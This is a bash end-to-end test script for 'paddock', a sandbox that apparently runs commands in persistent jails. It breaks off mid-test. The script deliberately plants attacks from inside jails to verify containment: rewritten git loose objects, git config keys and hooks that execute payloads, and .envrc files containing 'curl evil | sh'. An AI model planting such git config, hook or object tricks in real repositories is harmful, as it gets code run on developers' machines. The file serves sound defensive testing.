#!/usr/bin/env bash
# Persistent jails (docs/jails.md) end to end, through the paddock binary, as root or as the
# unprivileged test user (scripts/test-user.sh creates it).
# usage: tests/jail/run.sh root|unprivileged|current PADDOCK_BINARY
#
# For each workspace mode (host, copy, overlay, worktree) and each HOME mode (stable, temporary): make a
# jail of a fresh git repository, run a command in it that edits, deletes, renames a file and a
# directory, makes a symlink, writes in HOME and commits in git; check the source is untouched
# (copy, worktree), the diff, a patch that applies to the source, a branch (worktree) or an
# apply (copy), runtime.json, that a stable HOME is kept and a temporary one is not, and that the
# jail's metadata is out of the sandbox's reach. Then --apply refused over a changed source, the
# bubblewrap backend for real, paddock run in a linked git worktree, a hostile run (planted
# symlink, a HOME made writable by others), bad names, a damaged runtime.json, the size cap, two
# execs at once with rm refused meanwhile, and prune. A failure names the case.
set -euo pipefail
who=${1:-} paddock_bin=${2:-}
if [ -z "$who" ] || [ -z "$paddock_bin" ]; then echo "usage: run.sh root|unprivileged|current PADDOCK_BINARY" >&2; exit 2; fi

if [ "$who" = __inner ]; then
  P=$(cd "$(dirname "$paddock_bin")" && pwd)/$(basename "$paddock_bin")
  failures=0 checks=0
  fail() { echo "FAIL [$tc] $*"; failures=$((failures + 1)); }
  ok() { checks=$((checks + 1)); }
  expect() {  # expect DESCRIPTION COMMAND...: the command must succeed
    local what=$1; shift
    if "$@" >/dev/null 2>&1; then ok; else fail "$what"; fi
  }
  expect_not() {
    local what=$1; shift
    if "$@" >/dev/null 2>&1; then fail "$what"; else ok; fi
  }
  work=$(mktemp -d "${TMPDIR:-/tmp}/paddock-jail-test.XXXXXX")
  prefix=t$$
  jails=()
  cleanup() {
    for j in "${jails[@]}"; do "$P" jail rm --force "$j" >/dev/null 2>&1 || true; done
    chmod -R u+rwx "$work" 2>/dev/null || true
    rm -rf "$work"
  }
  trap cleanup EXIT
  export GIT_AUTHOR_NAME=jail-test GIT_AUTHOR_EMAIL=jail@test GIT_COMMITTER_NAME=jail-test GIT_COMMITTER_EMAIL=jail@test
  gitenv=(--env GIT_AUTHOR_NAME --env GIT_AUTHOR_EMAIL --env GIT_COMMITTER_NAME --env GIT_COMMITTER_EMAIL)
  make_source() {  # make_source DIR: a git repository with one commit
    mkdir -p "$1/dir" "$1/sub"
    echo alpha >"$1/a.txt"; echo beta >"$1/dir/b.txt"; echo gamma >"$1/c.txt"; echo s >"$1/sub/s.txt"
    printf '#!/bin/sh\necho run\n' >"$1/run.sh"; chmod 755 "$1/run.sh"
    git -C "$1" init -q -b main
    git -C "$1" add -A
    git -C "$1" commit -q -m base
  }
  # The command each jail runs: every kind of change, and a git commit where there is a repository.
  edit='set -e
echo ALPHA >a.txt
rm dir/b.txt
mv c.txt c2.txt
mv sub sub2
ln -s a.txt link
echo kept >"$HOME/homefile"
git add -A
git commit -q -m "from the jail"
git log --oneline | wc -l >commits'
  # Copy and worktree only read this back from the diff; host writes it into the source.
  expected_diff='A c2.txt
A commits
D c.txt
D dir/b.txt
D sub/s.txt
A link
M a.txt
A sub2/s.txt'

  for ws in host copy overlay worktree; do
    for home in stable temporary; do
      tc=$ws/$home
      name=$prefix-$ws-$home
      src=$work/src-$ws-$home
      make_source "$src"
      base=$(git -C "$src" rev-parse HEAD)
      if ! "$P" jail create "$name" --workspace "$ws" --home "$home" --source "$src" 2>"$work/err"; then
        fail "create: $(cat "$work/err")"; continue
      fi
      jails+=("$name")
      show=$("$P" jail show "$name" --json)
      root=$(printf '%s' "$show" | sed -n 's/^  "jail_root": "\(.*\)",$/\1/p')
      [ -n "$root" ] && ok || fail "show has no jail_root: $show"
      for field in '"format": "paddock.jail/1"' "\"mode\": \"$ws\"" "\"mode\": \"$home\"" '"backend": "native"' \
                   '"created":' '"last_used":' '"profile": "default"' "\"root\": \"$root/home\""; do
        case "$show" in *"$field"*) ok ;; *) fail "runtime.json lacks $field: $show" ;; esac
      done
      [ -f "$root/runtime/runtime.json" ] && ok || fail "no $root/runtime/runtime.json"
      if [ "$(stat -c %a "$root")" = 700 ]; then ok; else fail "jail root mode $(stat -c %a "$root")"; fi
      # The command: every kind of change.
      if ! "$P" jail exec "$name" "${gitenv[@]}" -- sh -c "$edit" >"$work/out" 2>&1; then
        fail "exec: $(cat "$work/out")"; continue
      fi
      wsroot=$(printf '%s' "$show" | sed -n '/"workspace"/,/}/s/^    "root": "\(.*\)"$/\1/p')
      # The jail's metadata is out of reach inside, and the real HOME is not the jail's.
      if "$P" jail exec "$name" -- sh -c "cat '$root/runtime/runtime.json'" >/dev/null 2>&1; then
        fail "runtime.json readable inside the jail"
      else ok; fi
      if "$P" jail exec "$name" -- sh -c "echo x >'$root/runtime/planted'" >/dev/null 2>&1 || [ -e "$root/runtime/planted" ]; then
        fail "the runtime directory is writable inside the jail"
      else ok; fi
      # HOME: stable keeps it, temporary does not.
      if "$P" jail exec "$name" -- sh -c 'cat "$HOME/homefile"' >"$work/home" 2>/dev/null; then
        [ "$home" = stable ] && ok || fail "a temporary HOME kept homefile"
      else
        [ "$home" = temporary ] && ok || fail "a stable HOME lost homefile"
      fi
      [ "$home" = stable ] && { [ -f "$root/home/homefile" ] && ok || fail "homefile not in $root/home"; }
      [ -e "$HOME/homefile" ] && fail "the jail wrote the real HOME" || ok
      if [ "$ws" = host ]; then
        # The source itself is the workspace.
        [ "$(cat "$src/a.txt")" = ALPHA ] && ok || fail "host: a.txt not edited in the source"
        [ -L "$src/link" ] && ok || fail "host: no symlink in the source"
        [ "$(git -C "$src" log --oneline | wc -l)" = 2 ] && ok || fail "host: no commit in the source"
        expect_not "host: diff must say there is nothing to compare" "$P" jail diff "$name"
        continue
      fi
      # The source is untouched until sync.
      [ "$(cat "$src/a.txt")" = alpha ] && ok || fail "the source's a.txt changed before sync"
      [ -f "$src/dir/b.txt" ] && [ -f "$src/c.txt" ] && [ -d "$src/sub" ] && [ ! -e "$src/link" ] && ok ||
        fail "the source's files changed before sync"
      [ "$(git -C "$src" rev-parse main)" = "$base" ] && ok || fail "the source's main moved"
      [ -z "$(git -C "$src" status --porcelain)" ] && ok || fail "the source's work tree changed: $(git -C "$src" status --porcelain)"
      # overlay: rename(2) of a directory from the source fails with EXDEV (docs/jails.md), which
      # mv handled above by copying.
      if [ "$ws" = overlay ] && command -v perl >/dev/null; then
        got=$("$P" jail exec "$name" --no-diagnostics -- perl -e 'rename("dir", "dir3") or print "$!"' 2>/dev/null || true)
        [ "$got" = "Invalid cross-device link" ] && ok || fail "overlay: rename of a source directory gave '$got'"
      fi
      # In the workspace: the edits and the commit (an overlay's are in its upper directory).
      [ "$ws" = overlay ] && wsroot=$(dirname "$wsroot")/upper
      [ "$(cat "$wsroot/a.txt")" = ALPHA ] && [ -L "$wsroot/link" ] && [ -d "$wsroot/sub2" ] && ok ||
        fail "the workspace lacks the edits"
      [ "$(cat "$wsroot/commits" | tr -d ' ')" = 2 ] && ok || fail "git commit inside: $(cat "$wsroot/commits" 2>&1)"
      # diff
      if "$P" jail diff "$name" --name-status >"$work/diff" 2>"$work/err"; then
        got=$(awk '{print $1" "$2}' "$work/diff" | sort)
        want=$(printf '%s\n' "$expected_diff" | sort)
        [ "$got" = "$want" ] && ok || fail "diff: got
$got
want
$want"
      else
        fail "diff: $(cat "$work/err")"
      fi
      # A patch that applies to the source as it was.
      if "$P" jail sync "$name" --patch "$work/p-$ws-$home.patch" 2>"$work/err"; then
        git clone -q "$src" "$work/clone-$ws-$home"
        if git -C "$work/clone-$ws-$home" apply --check "$work/p-$ws-$home.patch" 2>"$work/err"; then ok
        else fail "the patch does not apply: $(cat "$work/err")"; fi
      else
        fail "sync --patch: $(cat "$work/err")"
      fi
      # A branch in the source repository, every mode but host (the source itself).
      if "$P" jail sync "$name" --to-branch "published-$home" 2>"$work/err"; then
        [ "$(git -C "$src" show "published-$home:a.txt")" = ALPHA ] && ok || fail "the branch lacks a.txt"
        git -C "$src" cat-file -e "published-$home:commits" && ok || fail "the branch lacks the uncommitted file"
        git -C "$src" cat-file -e "published-$home:c.txt" 2>/dev/null && fail "the branch still has c.txt" || ok
        [ "$(git -C "$src" cat-file -p "published-$home:link")" = "$(readlink "$wsroot/link")" ] && ok ||
          fail "the branch's link is not the jail's symlink"
        [ "$(git -C "$src" rev-parse "published-$home^")" = "$(git -C "$src" rev-parse main)" ] || [ "$ws" = worktree ] && ok ||
          fail "the branch is not on top of the source's HEAD"
        [ -z "$(git -C "$src" status --porcelain)" ] && ok || fail "--to-branch touched the source's work tree"
        [ "$(git -C "$src" rev-parse main)" = "$base" ] && ok || fail "--to-branch moved main"
      else
        fail "sync --to-branch: $(cat "$work/err")"
      fi
      # Applied to the source's files.
      if "$P" jail sync "$name" --apply >"$work/out" 2>"$work/err"; then
        [ "$(cat "$src/a.txt")" = ALPHA ] && [ ! -e "$src/c.txt" ] && [ -f "$src/c2.txt" ] && [ -L "$src/link" ] &&
          [ -f "$src/sub2/s.txt" ] && [ ! -e "$src/dir/b.txt" ] && ok || fail "sync --apply: the source lacks the changes"
        [ "$(git -C "$src" rev-parse main)" = "$base" ] && ok || fail "sync --apply moved main"
      else
        fail "sync --apply: $(cat "$work/err")"
      fi
    done
  done

  # rm of a worktree jail unregisters the worktree and keeps its branch (it may hold the work).
  # Work that is not committed on the branch (the file `commits`, written after the commit) is
  # lost by rm: refused, naming it, without --force (as `git worktree remove`).
  tc=worktree-rm
  name=$prefix-worktree-stable
  if "$P" jail rm "$name" >/dev/null 2>"$work/err"; then
    fail "rm of a worktree with uncommitted work succeeded without --force"
  else
    grep -q "commits" "$work/err" && grep -q -- "--force" "$work/err" && ok ||
      fail "the refusal does not name what would be lost: $(cat "$work/err")"
  fi
  if "$P" jail rm --force "$name" >/dev/null 2>&1; then
    git -C "$work/src-worktree-stable" worktree list | grep -q "$name" && fail "the worktree is still registered" || ok
    git -C "$work/src-worktree-stable" rev-parse --verify -q "paddock/$name" >/dev/null && ok || fail "rm deleted the branch"
  else
    fail "rm"
  fi

  # --apply refuses when the source changed underneath, and lists the file.
  tc=apply-refused
  src=$work/src-refused; make_source "$src"
  for ws in copy overlay worktree; do
    name=$prefix-refused-$ws
    "$P" jail create "$name" --workspace "$ws" --source "$src" 2>/dev/null && jails+=("$name") || fail "create $ws"
    "$P" jail exec "$name" -- sh -c 'echo jail >a.txt' >/dev/null 2>&1 || fail "exec $ws"
  done
  echo user >"$src/a.txt"
  for ws in copy overlay worktree; do
    if "$P" jail sync "$prefix-refused-$ws" --apply >/dev/null 2>"$work/err"; then
      fail "$ws: --apply over a changed source succeeded"
    else
      grep -q 'a.txt' "$work/err" && ok || fail "$ws: the refusal does not list a.txt: $(cat "$work/err")"
    fi
    [ "$(cat "$src/a.txt")" = user ] && ok || fail "$ws: the user's edit was overwritten"
  done

  # The bubblewrap backend runs the same jail: the workspace and the stable HOME, for real.
  tc=bubblewrap
  if command -v bwrap >/dev/null; then
    name=$prefix-bwrap
    "$P" jail create "$name" --workspace copy --source "$work/src-refused" 2>/dev/null && jails+=("$name")
    expect "exec --backend bubblewrap" "$P" jail exec "$name" --backend bubblewrap -- sh -c 'echo bw >bw.txt; echo h >"$HOME/h"'
    out=$("$P" jail exec "$name" --backend bubblewrap -- sh -c 'cat bw.txt "$HOME/h"; echo "$PADDOCK_JAIL"' 2>/dev/null || true)
    [ "$out" = "bw
h
$name" ] && ok || fail "bubblewrap: workspace, HOME or PADDOCK_JAIL wrong: $out"
    root=$("$P" jail show "$name" --json | sed -n 's/^  "jail_root": "\(.*\)",$/\1/p')
    "$P" jail exec "$name" --backend bubblewrap -- cat "$root/runtime/runtime.json" >/dev/null 2>&1 &&
      fail "bubblewrap: runtime.json readable inside" || ok
    [ "$("$P" jail diff "$name" --name-status 2>/dev/null)" = "A bw.txt" ] && ok || fail "bubblewrap: diff"
    expect_not "an unknown backend is refused" "$P" jail exec "$name" --backend nope -- true
    # systemd-run without a user manager (su, sudo, cron, a container): why, and what to do,
    # instead of systemd-run's "Failed to connect to bus"; nothing is started.
    tc=systemd-no-bus
    if env -u DBUS_SESSION_BUS_ADDRESS XDG_RUNTIME_DIR=/nonexistent-paddock-bus \
        "$P" jail exec "$name" --backend systemd-run -- sh -c 'echo sd >sd.txt' >/dev/null 2>"$work/err"; then
      fail "systemd-run: ran without a user manager"
    else
      if [ -d /run/systemd/system ]; then want="/nonexistent-paddock-bus/bus does not exist"; else want="needs systemd as PID 1"; fi
      grep -qF "$want" "$work/err" && grep -qF -- "--backend native" "$work/err" && ok ||
        fail "systemd-run: the refusal does not say why and what to do: $(cat "$work/err")"
      grep -q "Failed to connect to bus" "$work/err" && fail "systemd-run: systemd-run itself was started" || ok
    fi
  else
    echo "SKIP [bubblewrap] bwrap is not installed (scripts/setup.sh installs the Debian package bubblewrap)"
  fi

  # paddock run in a linked git worktree: git works, hooks and config stay read-only.
  tc=run-linked-worktree
  src=$work/src-linked; make_source "$src"
  git -C "$src" worktree add -q "$work/linked" -b linked
  if (cd "$work/linked" && "$P" run --no-diagnostics "${gitenv[@]}" -- sh -c 'echo q >q && git add q && git commit -q -m wt') >/dev/null 2>"$work/err"; then
    [ "$(git -C "$src" log --format=%s -1 linked)" = wt ] && ok || fail "the commit is not on the branch"
  else
    fail "commit in a linked worktree: $(cat "$work/err")"
  fi
  (cd "$work/linked" && "$P" run --no-diagnostics -- sh -c "echo x >>'$src/.git/config'; echo y >'$src/.git/hooks/post-commit'") >/dev/null 2>&1 || true
  grep -q '^x$' "$src/.git/config" && fail "config writable from a linked worktree" || ok
  [ -e "$src/.git/hooks/post-commit" ] && fail "hooks writable from a linked worktree" || ok

  # What a run can do to its own jail's roots: make its HOME writable by others (the next exec
  # refuses the root), plant a symlink to a host file in the workspace (sync copies the link,
  # never the file it names; rm leaves the file alone).
  tc=hostile-run
  name=$prefix-hostile
  victim=$work/victim; echo precious >"$victim"
  src=$work/src-hostile; make_source "$src"
  "$P" jail create "$name" --workspace copy --source "$src" 2>/dev/null && jails+=("$name")
  "$P" jail exec "$name" -- ln -s "$victim" planted >/dev/null 2>&1 || fail "exec ln -s"
  "$P" jail sync "$name" --apply >/dev/null 2>&1 || fail "sync --apply"
  [ -L "$src/planted" ] && [ "$(readlink "$src/planted")" = "$victim" ] && ok || fail "sync did not copy the link as a link"
  "$P" jail exec "$name" -- sh -c 'chmod 777 "$HOME"' >/dev/null 2>&1 || fail "exec chmod"
  if "$P" jail exec "$name" -- true 2>"$work/err"; then fail "exec into a HOME others can write ran"
  else grep -q "can be written by other users" "$work/err" && ok || fail "no refusal message: $(cat "$work/err")"; fi
  expect "rm of a jail with a planted symlink" "$P" jail rm "$name"
  [ "$(cat "$victim")" = precious ] && ok || fail "rm followed the planted symlink"

  # ---- The jail doors of issue 25 (docs/isolation.md, doors x classes) ----

  # Class 3: a worktree jail's runs never write the source's objects. Inside, the loose object of
  # the source HEAD's root tree is rewritten to also hold an .envrc (git does not re-hash a loose
  # object on read: the host's `git reset --hard` would then write it), objects/info/alternates is
  # planted, the read-only view is written to, and the jail's ref is pointed at an object that does
  # not exist. Afterwards the host's git reads the source's own objects; a commit made inside is
  # published on the jail's branch.
  plant_tree='set -e
obj_path() { printf "%s/%s/%s" "$1" "$(printf %s "$2" | cut -c1-2)" "$(printf %s "$2" | cut -c3-)"; }
objects=$(git rev-parse --git-common-dir)/objects
tree=$(git rev-parse "${REV:-HEAD}^{tree}")
d=$(mktemp -d)
b=$(printf "touch %s\n" "$MARK" | GIT_OBJECT_DIRECTORY=$d git hash-object -w --stdin)
t=$( (git ls-tree "${REV:-HEAD}"; printf "100644 blob %s\t.envrc\n" "$b") | GIT_OBJECT_DIRECTORY=$d GIT_ALTERNATE_OBJECT_DIRECTORIES=$objects git mktree)
target=$(obj_path "$objects" "$tree")
mkdir -p "$(dirname "$target")" "$(dirname "$(obj_path "$objects" "$b")")"
cp "$(obj_path "$d" "$b")" "$(obj_path "$objects" "$b")" 2>/dev/null || true
rm -f "$target"
cp "$(obj_path "$d" "$t")" "$target"'
  # Without paddock the attack works (so the checks below can fail): the host's reset writes it.
  tc=class3-control
  make_source "$work/src-control"
  # (git 2.39 writes the file, then may crash on the mismatching tree: its exit status is no evidence.)
  MARK=$work/control-mark PLANT=$plant_tree sh -c 'cd "$1" && sh -c "$PLANT" && git reset -q --hard' - "$work/src-control" \
    >/dev/null 2>&1 || true
  [ -f "$work/src-control/.envrc" ] && ok || fail "the loose-object attack does not work even without paddock"
  tc=class3-worktree-objects
  src=$work/src-objects; make_source "$src"
  name=$prefix-objects
  "$P" jail create "$name" --workspace worktree --source "$src" 2>/dev/null && jails+=("$name") || fail "create"
  common=$src/.git
  before_main=$(git -C "$src" rev-parse main)
  "$P" jail exec "$name" "${gitenv[@]}" -- sh -c 'echo inside >inside.txt; git add inside.txt; git commit -q -m inside' \
    >"$work/out" 2>&1 || fail "commit inside: $(cat "$work/out")"
  if "$P" jail exec "$name" --env MARK="$work/c3-mark" --env REV=main -- sh -c "$plant_tree
echo /etc >'$common/objects/info/alternates'
echo x >'$common/objects/.paddock-source/x' 2>/dev/null && echo WROTE-SOURCE-VIEW
true" >"$work/out" 2>&1; then ok
  else fail "the attack did not run inside: $(cat "$work/out")"; fi
  grep -q WROTE-SOURCE-VIEW "$work/out" && fail "the read-only view of the source's objects was writable" || ok
  [ ! -e "$common/objects/info/alternates" ] && ok || fail "objects/info/alternates planted in the source"
  (cd "$src" && git reset -q --hard; git checkout -q -f HEAD) >/dev/null 2>&1 || true
  [ ! -e "$src/.envrc" ] && [ ! -e "$work/c3-mark" ] && ok || fail "the host's git reset wrote the run's .envrc"
  git -C "$src" ls-tree --name-only HEAD | grep -q envrc && fail "the source's HEAD tree holds the run's .envrc" || ok
  [ "$(git -C "$src" rev-parse main)" = "$before_main" ] && ok || fail "main moved"
  git -C "$src" cat-file -e "paddock/$name:inside.txt" 2>/dev/null && ok || fail "the commit made inside is not on paddock/$name"
  git -C "$src" fsck --no-dangling >"$work/fsck" 2>&1 && ok || fail "the source repository does not fsck: $(cat "$work/fsck")"
  # A ref moved to an object the repository does not have is put back, and said.
  good=$(git -C "$src" rev-parse "paddock/$name")
  "$P" jail exec "$name" -- sh -c "echo 0123456789012345678901234567890123456789 >'$common/refs/heads/paddock/$name'" \
    >/dev/null 2>"$work/err" || true
  [ "$(git -C "$src" rev-parse "paddock/$name")" = "$good" ] && ok || fail "a ref naming a missing object was published"
  grep -q "not published" "$work/err" && ok || fail "the ref that was put back is not said: $(cat "$work/err")"

  # Class 3, `paddock run` in a linked worktree of a repository: the same.
  tc=class3-linked-worktree
  src=$work/src-objects-linked; make_source "$src"
  git -C "$src" worktree add -q "$work/linked-objects" -b linked-objects
  if (cd "$work/linked-objects" && MARK=$work/c3-linked-mark "$P" run --no-diagnostics --env MARK -- sh -c "$plant_tree") \
       >"$work/out" 2>&1; then ok; else fail "the attack did not run inside: $(cat "$work/out")"; fi
  (cd "$src" && git reset -q --hard) >/dev/null 2>&1 || true
  [ ! -e "$src/.envrc" ] && ok || fail "the host's git reset wrote the run's .envrc (linked worktree)"
  [ ! -e "$src/.git/objects/info/alternates" ] && ok || fail "alternates planted (linked worktree)"

  # Class 4: paddock's own git on what a run wrote runs nothing. The run plants every key that
  # names a program git runs (git-config(1), git 2.39: each with a payload leaving a marker named
  # after it), where it can: the worktree's config.worktree (read by git once the repository has
  # extensions.worktreeConfig, as the source here does), its git directory, the workspace's
  # .gitattributes and a core.attributesFile, every hook through core.hooksPath, a repository
  # nested in the workspace; copy and overlay jails in their copy of .git. Then every door that
  # runs git: diff, diff --name-status, sync --patch, --to-branch, --apply, rm's check.
  tc=class4-host-git
  marks=$work/marks; mkdir -p "$marks"; chmod 777 "$marks"
  cfg=$work/pwn-config; : >"$cfg"
  for k in core.fsmonitor core.sshCommand core.pager core.editor core.askPass core.gitProxy \
           core.alternateRefsCommand sequence.editor diff.external diff.pwn.command diff.pwn.textconv \
           filter.pwn.clean filter.pwn.smudge filter.pwn.process merge.pwn.driver alias.add alias.pwn \
           credential.helper gpg.program gpg.ssh.program gpg.x509.program gpg.ssh.defaultKeyCommand \
           pager.diff pager.diff-tree pager.add pager.apply pager.commit-tree pager.log web.browser \
           browser.pwn.cmd difftool.pwn.cmd mergetool.pwn.cmd remote.origin.uploadpack \
           remote.origin.receivepack trailer.pwn.command trailer.pwn.cmd man.pwn.cmd \
           submodule.pwn.update uploadpack.packObjectsHook; do
    # Aliases, credential helpers and submodule update commands run with a leading "!".
    case "$k" in alias.*|credential.*|submodule.*) bang='!' ;; *) bang='' ;; esac
    git config -f "$cfg" "$k" "${bang}touch $marks/$k; cat"
  done
  for kv in commit.gpgSign=true tag.gpgSign=true log.showSignature=true user.signingKey=pwn gpg.format=openpgp \
            diff.tool=pwn merge.tool=pwn protocol.ext.allow=always "remote.origin.url=ext::sh -c touch% $marks/ext" \
            filter.pwn.required=true core.hooksPath=.pwnhooks core.attributesFile=.pwnattributes \
            gc.auto=1 core.fsmonitorHookVersion=2; do
    git config -f "$cfg" "${kv%%=*}" "${kv#*=}"
  done
  hooks='applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg
post-commit pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive post-receive post-update
reference-transaction push-to-checkout pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman
post-index-change'
  plant_config="set -e
mkdir -p .pwnhooks nested
for h in $(echo $hooks); do printf '#!/bin/sh\ntouch $marks/hook-%s\ncat >/dev/null 2>&1 || true\n' \$h >.pwnhooks/\$h; chmod +x .pwnhooks/\$h; done
printf '* filter=pwn diff=pwn merge=pwn text eol=crlf ident working-tree-encoding=UTF-16\n' >.gitattributes
cp .gitattributes .pwnattributes
echo 'pwn text' >a.txt
(cd nested && git init -q && git commit -q --allow-empty -m n && printf '%s\\n' \"\$PWN_CONFIG\" >>.git/config && cp -r ../.pwnhooks/. .git/hooks/ && echo n >n) >/dev/null 2>&1 || true
gd=\$(git rev-parse --git-dir 2>/dev/null || echo .git)
printf '%s\\n' \"\$PWN_CONFIG\" >>\"\$gd/config.worktree\" 2>/dev/null || true
printf '%s\\n' \"\$PWN_CONFIG\" >>\"\$gd/config\" 2>/dev/null || true
mkdir -p \"\$gd/info\" 2>/dev/null && cp .gitattributes \"\$gd/info/attributes\" 2>/dev/null || true
mkdir -p \"\$gd/hooks\" 2>/dev/null && cp -r .pwnhooks/. \"\$gd/hooks/\" 2>/dev/null || true
true"
  for ws in worktree copy overlay; do
    src=$work/src-c4-$ws; make_source "$src"
    git -C "$src" config extensions.worktreeConfig true
    git -C "$src" config core.repositoryformatversion 1
    name=$prefix-c4-$ws
    "$P" jail create "$name" --workspace "$ws" --source "$src" 2>/dev/null && jails+=("$name") || { fail "$ws: create"; continue; }
    "$P" jail exec "$name" "${gitenv[@]}" --env PWN_CONFIG="$(cat "$cfg")" -- sh -c "$plant_config" >"$work/out" 2>&1 ||
      fail "$ws: planting: $(cat "$work/out")"
    rm -f "$marks"/*  # what git did inside the sandbox does not count
    "$P" jail diff "$name" >/dev/null 2>&1 || fail "$ws: diff"
    "$P" jail diff "$name" --name-status >/dev/null 2>&1 || fail "$ws: diff --name-status"
    "$P" jail sync "$name" --patch "$work/c4-$ws.patch" >/dev/null 2>&1 || fail "$ws: sync --patch"
    "$P" jail sync "$name" --to-branch "c4-$ws" >/dev/null 2>"$work/err" || fail "$ws: sync --to-branch: $(cat "$work/err")"
    "$P" jail sync "$name" --apply >/dev/null 2>"$work/err" || fail "$ws: sync --apply: $(cat "$work/err")"
    "$P" jail rm "$name" >/dev/null 2>&1 || true
    ran=$(ls "$marks")
    [ -z "$ran" ] && ok || fail "$ws: paddock's git on the host ran what the run planted: $(echo $ran)"
    rm -f "$marks"/*
    # What was applied is the bytes the run wrote: nothing filtered or converted on the way.
    [ "$(cat "$src/a.txt")" = "pwn text" ] && ok || fail "$ws: a.txt was not applied as written: $(od -c "$src/a.txt" | head -2)"
  done

  # Class 5: sync filters by literal path through the gate, not by pattern: a protected file
  # under a directory named with glob characters is held back by --apply in every mode.
  tc=class5-literal-paths
  for ws in worktree copy overlay; do
    src=$work/src-c5-$ws; make_source "$src"
    name=$prefix-c5-$ws
    "$P" jail create "$name" --workspace "$ws" --source "$src" 2>/dev/null && jails+=("$name") || { fail "$ws: create"; continue; }
    "$P" jail exec "$name" -- sh -c 'mkdir -p "pkg[1]" "a*" && echo evil >"pkg[1]/.envrc" && echo ok >"pkg[1]/ok.txt" &&
      echo evil >"a*/.envrc"' >/dev/null 2>&1 || fail "$ws: exec"
    "$P" jail sync "$name" --apply >"$work/out" 2>"$work/err" || fail "$ws: --apply: $(cat "$work/err")"
    [ ! -e "$src/pkg[1]/.envrc" ] && [ ! -e "$src/a*/.envrc" ] && ok || fail "$ws: a protected file under a glob-named directory was applied"
    [ "$(cat "$src/pkg[1]/ok.txt" 2>/dev/null)" = ok ] && ok || fail "$ws: pkg[1]/ok.txt not applied"
    grep -q 'not applied: pkg\[1\]/.envrc' "$work/err" && ok || fail "$ws: the held file is not said: $(cat "$work/err")"
  done

  # Class 6 (sync side) and issue 26 items 1, 2 and the quarantine files: what the host runs or
  # trusts is never published from any workspace mode, at any depth — a bare and a split git
  # directory assembled from files, editors' and agents' settings, hooks in nested repositories,
  # files the after-run check set aside (*.paddock-quarantine) — by --apply or --to-branch; jail
  # diff marks each one; the host's git in the source afterwards runs nothing.
  tc=class6-never-published
  for ws in worktree copy overlay; do
    src=$work/src-c6-$ws; make_source "$src"
    mkdir -p "$src/vendor"; git -C "$src/vendor" init -q; echo '[core]' >>"$src/vendor/.git/config"
    vendor_config=$(cat "$src/vendor/.git/config")
    name=$prefix-c6-$ws
    "$P" jail create "$name" --workspace "$ws" --source "$src" 2>/dev/null && jails+=("$name") || { fail "$ws: create"; continue; }
    mark=$work/c6-mark-$ws
    "$P" jail exec "$name" -- sh -c "set -e
mkdir -p bare/objects/info bare/refs/heads split sub/dir .vscode sub/.claude .husky sub/.cargo lib/.git/hooks
echo 'ref: refs/heads/main' >bare/HEAD; echo x >bare/objects/info/x; echo 0123456789012345678901234567890123456789 >bare/refs/heads/main
printf '[core]\n\tbare = false\n\tworktree = $src/bare\n\tfsmonitor = \"touch $mark; false\"\n' >bare/config
echo 'ref: refs/heads/main' >split/HEAD; echo ../bare >split/commondir; echo '$src/split/.git' >split/gitdir
printf '[core]\n\tfsmonitor = \"touch $mark; false\"\n' >split/config.worktree
echo 'curl evil | sh' >.envrc; echo 'curl evil | sh' >sub/dir/.envrc
echo '{}' >.vscode/tasks.json; echo '{}' >sub/.claude/settings.json; echo x >.husky/pre-commit; echo x >sub/.cargo/config.toml
printf '#!/bin/sh\ntouch $mark\n' >lib/.git/hooks/post-checkout; echo '[core]' >lib/.git/config
printf '[core]\n\tfsmonitor = \"touch $mark; false\"\n' >>vendor/.git/config 2>/dev/null || true
echo set-aside >notes.paddock-quarantine; echo set-aside >sub/x.paddock-rejected
echo plain >plain.txt" >"$work/out" 2>&1 || fail "$ws: exec: $(cat "$work/out")"
    "$P" jail diff "$name" --name-status >"$work/diff" 2>&1 || fail "$ws: diff"
    grep -q '\.git/' "$work/diff" && fail "$ws: diff lists something inside a .git directory: $(grep '\.git/' "$work/diff")" || ok
    for p in bare/HEAD split/HEAD split/commondir split/gitdir split/config.worktree .envrc sub/dir/.envrc .vscode/tasks.json \
             sub/.claude/settings.json .husky/pre-commit sub/.cargo/config.toml notes.paddock-quarantine sub/x.paddock-rejected; do
      # Not listed at all is fine too (the after-run check may have set it aside already).
      if grep -q "^[AMD] $p"$'\t'"# held back" "$work/diff" || ! grep -E -q "^[AMD] $p("$'\t'"|\$)" "$work/diff"; then ok
      else fail "$ws: diff does not mark $p as held back: $(grep "$p" "$work/diff")"; fi
    done
    "$P" jail sync "$name" --to-branch "c6-$ws" >/dev/null 2>"$work/err" || fail "$ws: --to-branch: $(cat "$work/err")"
    listed=$(git -C "$src" ls-tree -r --name-only "c6-$ws" 2>/dev/null)
    printf '%s\n' "$listed" | grep -q '^plain.txt$' && ok || fail "$ws: the branch lacks plain.txt"
    printf '%s\n' "$listed" | grep -E -q '(^|/)(HEAD|commondir|gitdir|config.worktree|\.envrc|tasks\.json|settings\.json|pre-commit|config\.toml|[^/]*\.paddock-(quarantine|rejected))$' &&
      fail "$ws: the branch carries what the host runs: $(printf '%s\n' "$listed" | grep -E '(HEAD|commondir|envrc|json|pre-commit|toml|paddock-)')" || ok
    "$P" jail sync "$name" --apply >/dev/null 2>"$work/err" || fail "$ws: --apply: $(cat "$work/err")"
    [ "$(cat "$src/plain.txt" 2>/dev/null)" = plain ] && ok || fail "$ws: plain.txt not applied"
    for p in bare/HEAD split/HEAD split/commondir split/gitdir split/config.worktree .envrc sub/dir/.envrc .vscode/tasks.json \
             sub/.claude/settings.json .husky/pre-commit sub/.cargo/config.toml lib/.git notes.paddock-quarantine \
             sub/x.paddock-rejected .envrc.paddock-quarantine; do
      [ ! -e "$src/$p" ] && ok || fail "$ws: --apply published $p"
    done
    [ "$(cat "$src/vendor/.git/config")" = "$vendor_config" ] && ok || fail "$ws: --apply changed a nested repository's config"
    for d in bare split sub vendor .; do [ -d "$src/$d" ] && (cd "$src/$d" && git status >/dev/null 2>&1 || true); done
    [ ! -e "$mark" ] && ok || fail "$ws: the host's git ran what the jail published"
  done

  # Class 6, after --apply: what names alone do not give away — the source holds a directory with
  # HEAD and refs/ but no objects/, and the jail adds, in two runs (so that no single run made a
  # repository the after-run check would see), a config naming core.fsmonitor and an objects/
  # directory: once applied, git takes the directory for a repository with that config. The
  # gate's check after the write moves the config aside, and says so.
  tc=class6-after-apply
  for ws in worktree copy overlay; do
    src=$work/src-c6a-$ws; make_source "$src"
